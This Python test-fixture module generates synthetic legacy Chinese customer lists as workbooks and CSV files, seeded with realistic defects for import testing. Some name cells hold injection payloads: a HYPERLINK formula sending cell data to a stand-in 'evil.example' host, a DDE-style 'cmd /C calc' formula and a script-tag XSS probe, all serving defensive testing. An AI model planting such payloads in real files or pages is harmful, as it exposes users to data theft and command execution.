"""Customer lists as companies bring them from an old system, made for tests.

Here: a workbook and a CSV file with the defects of the two samples that newcomers do not have,
20 to 10,000 rows, the same for the same seed. Not here: hostile files (`tests.kit.hostile`).
"""

from __future__ import annotations

import csv
import random
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl

HEADINGS = (
    "序号", "*客户名称", "客户性质", "客户类型", "所属行业", "客户来源", "客户等级",
    "省", "市", "区/县",
    "详细地址", "首要联系人", "职位", "手机", "固定电话", "电子邮箱", "客户标签",
    "业务员", "录入日期",
    "备注", "旧系统ID",
)  # fmt: skip
PLACES = (
    ("四川省", "成都市", "武侯区"), ("重庆市", "重庆市", "渝北区"),
    ("北京市", "北京市", "海淀区"),
    ("广东省", "东莞市", "松山湖"), ("广东省", "深圳市", "南山区"),
    ("江苏省", "苏州市", "工业园区"),
    ("香港特别行政区", "", ""), ("河南省", "济源市", ""), ("浙江省", "杭州市", "余杭区"),
    ("内蒙古自治区", "呼和浩特市", "赛罕区"),
)  # fmt: skip
INDUSTRIES = (
    "制造业", "零售业", "IT", "信息技术", "金融", "教育", "医疗", "物流", "房地产", "",
)  # fmt: skip
TRADES = (
    "科技",
    "物流",
    "文化传媒",
    "医疗器械",
    "新能源",
    "餐饮管理",
    "机械制造",
    "装饰工程",
    "软件",
)
FORMS = ("有限公司", "有限责任公司", "股份有限公司", "（集团）有限公司", "集团有限公司")
SURNAMES = "张王李赵刘陈杨黄周吴区仇单查解曾覃翟缪乐"
GIVEN = ("伟", "敏", "静", "强", "磊", "洋", "艳", "杰", "娟", "涛", "子轩", "梓涵", "宇")
TAGS = ("高潜力", "重点维护", "价格敏感", "决策周期短", "竞品客户", "高预算", "对产品A感兴趣")
OWNERS = ("王磊", "李娜", "张伟", "刘洋", "")
FIRST_DAY = date(2018, 1, 1)


@dataclass(slots=True)
class Legacy:
    """A file made, and what is in it: `defects` counts rows by defect (see `_row`)."""

    path: Path
    records: int
    blank_rows: int
    heading_row: int
    defects: Counter[str] = field(default_factory=Counter)


class _Maker:
    """Makes rows one after the other from one seed."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.defects: Counter[str] = Counter()
        self.names: list[str] = []

    def rows(self, count: int) -> Iterator[list[object] | None]:
        """Yield `count` records and, between them, None for a blank row."""
        for number in range(1, count + 1):
            yield self._row(number)
            if number % 150 == 90:
                yield None

    def _pick(self, options):
        return self.random.choice(options)

    def _row(self, number: int) -> list[object]:
        place = self._pick(PLACES)
        name = self._name(number, place)
        person = self._pick(SURNAMES) + self._pick(GIVEN)
        nature = self.random.choices(("企业客户", "企业", "公司", "个人客户"), (9, 5, 5, 1))[0]
        return [
            number, name, nature,
            self._pick(("潜在客户", "意向客户", "成交客户", "流失客户", "")),
            self._pick(INDUSTRIES),
            self._pick(("转介绍", "展会", "官网咨询", "百度推广", "老客户介绍", "电话咨询", "")),
            self._pick(("A", "B", "C", "A（重点客户）", "")),
            *place,
            f"{self._pick(('人民路', '科技园南区', '中山路'))}{self.random.randint(1, 999)}号"
            + self._pick(("", "", "\n13楼")),
            name if nature == "个人客户" and name else person,
            self._pick(("采购经理", "总经理", "财务", "")),
            self._mobile(), self._phone(), self._email(number), self._tags(),
            self._pick(OWNERS), self._date(), self._pick(("老客户，价格敏感", "")),
            f"OLD-{number:06d}",
        ]  # fmt: skip

    def _name(self, number: int, place: tuple[str, str, str]) -> str:
        plain = (
            place[1].removesuffix("市")[:2]
            + self._pick("天地玄黄宇宙洪荒日月盈昃辰宿列张")
            + self._pick("寒来暑往秋收冬藏闰余成岁律吕调阳")
            + str(number)
            + self._pick(TRADES)
            + self._pick(FORMS)
        )
        if number % 20 == 7 and self.names:
            return self._repeated()
        self.names.append(plain)
        odd = {
            13: ("long_name", plain * 12),
            29: ("blank_name", ""),
            41: ("blank_name", "  \u3000 "),
            53: ("formula", '=HYPERLINK("http://evil.example/?"&A1,"点我")'),
            67: ("formula", f"@SUM(1+1)*cmd|' /C calc'!A{number}"),
            79: ("script", f"<script>alert(1)</script>{plain}"),
            83: ("rare", f"𠮷野家{plain}🚚"),
            97: ("full_width", f"Ａｃｍｅ\u3000Ｔｒａｄｉｎｇ\u3000{number}"),
        }
        defect, name = odd.get(number % 100, ("", plain))
        self.defects[defect] += bool(defect)
        return name

    def _repeated(self) -> str:
        """The same customer once more, now and then with other brackets and a blank."""
        self.defects["duplicate"] += 1
        name = self._pick(self.names)
        if self.random.random() < 0.5:
            return name.replace("（", "(").replace("）", ")") + " "
        return name

    def _mobile(self) -> object:
        digits = f"1{self._pick('3456789')}{self.random.randrange(10**9):09d}"
        kind = self.random.choices(
            ("plain", "number", "spaces", "prefix", "nbsp", "wide", "two", "ten", "float", ""),
            (50, 18, 7, 6, 3, 3, 2, 2, 1, 3),
        )[0]
        if kind in ("ten", "float", "two"):
            self.defects[f"mobile_{kind}"] += 1
        return {
            "number": int(digits),
            "spaces": f"{digits[:3]} {digits[3:7]} {digits[7:]}",
            "prefix": f"+86-{digits[:3]}-{digits[3:7]}-{digits[7:]}",
            "nbsp": digits + "\u00a0",
            "wide": "".join(chr(ord(digit) + 0xFEE0) for digit in digits),
            "two": f"{digits}/1{self._pick('3589')}{self.random.randrange(10**9):09d}",
            "ten": digits[:10],
            "float": "1.38E+10",
            "": "",
        }.get(kind, digits)

    def _phone(self) -> str:
        number = self.random.randint(10_000_000, 69_999_999)
        return self._pick(
            (f"010-{number}", "(021)6888 1234", "400-820-8820", f"0755-{number}-801", "95588", "")
        )

    def _email(self, number: int) -> str:
        kind = self.random.choices(("plain", "upper", "bad", "none", ""), (4, 2, 2, 2, 2))[0]
        self.defects["email_bad"] += kind == "bad"
        return {
            "plain": f"user{number}@example.com",
            "upper": f"USER{number}@EXAMPLE.COM ",
            "bad": "user@@bad",
            "none": "无",
        }.get(kind, "")

    def _tags(self) -> str:
        count = self.random.choice((0, 1, 1, 2, 3))
        return self._pick((";", "、", "，", ",", " ")).join(self.random.sample(TAGS, count))

    def _date(self) -> object:
        day = FIRST_DAY + timedelta(days=self.random.randrange(3000))
        kind = self.random.choices(range(7), (50, 9, 9, 9, 8, 8, 1))[0]
        self.defects["date_impossible"] += kind == 6
        return (
            datetime(day.year, day.month, day.day),
            (day - date(1899, 12, 30)).days,
            f"{day:%Y/%m/%d}",
            f"{day.year}.{day.month}.{day.day}",
            f"{day.year}年{day.month}月{day.day}日",
            f"{day:%Y%m%d}",
            "2024-02-30",
        )[kind]


def write_workbook(path: Path, rows: int = 300, seed: int = 1) -> Legacy:
    """Write an xlsx with title, note, heading in row 3, hidden sheet, blank rows and a total."""
    maker = _Maker(seed)
    book = openpyxl.Workbook(write_only=False)
    sheet = book.active
    sheet.title = "客户资料"
    sheet.append(["华东区客户资料汇总表（导出日期：2026-11-02）"])
    sheet.append(["说明：带*为必填；业务员离职的请留空。"])
    sheet.append(list(HEADINGS))
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADINGS))
    line, blank = 3, 0
    for row in maker.rows(rows):
        line += 1
        if row is None:
            blank += 1
            continue
        for column, value in enumerate(row, start=1):
            if value != "":
                cell = sheet.cell(line, column, value)
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl would store "=…" as a formula
    sheet.cell(line + 1, 1, "合计")
    sheet.cell(line + 1, 2, f"共{rows}家")
    hidden = book.create_sheet("字典")
    hidden.append(["制造业"])
    hidden.sheet_state = "hidden"
    book.save(path)
    return Legacy(path, rows, blank, 3, +maker.defects)


def write_csv(path: Path, rows: int = 300, seed: int = 1, encoding: str = "gb18030") -> Legacy:
    """Write the same records as Excel on a Chinese Windows does: no title, dates as text."""
    maker = _Maker(seed)
    blank = 0
    with path.open("w", encoding=encoding, newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADINGS)
        for row in maker.rows(rows):
            if row is None:
                blank += 1
                writer.writerow([""] * len(HEADINGS))
            else:
                writer.writerow([_csv_value(value) for value in row])
    return Legacy(path, rows, blank, 1, +maker.defects)


def _csv_value(value: object) -> object:
    return f"{value:%Y-%m-%d}" if isinstance(value, datetime) else value
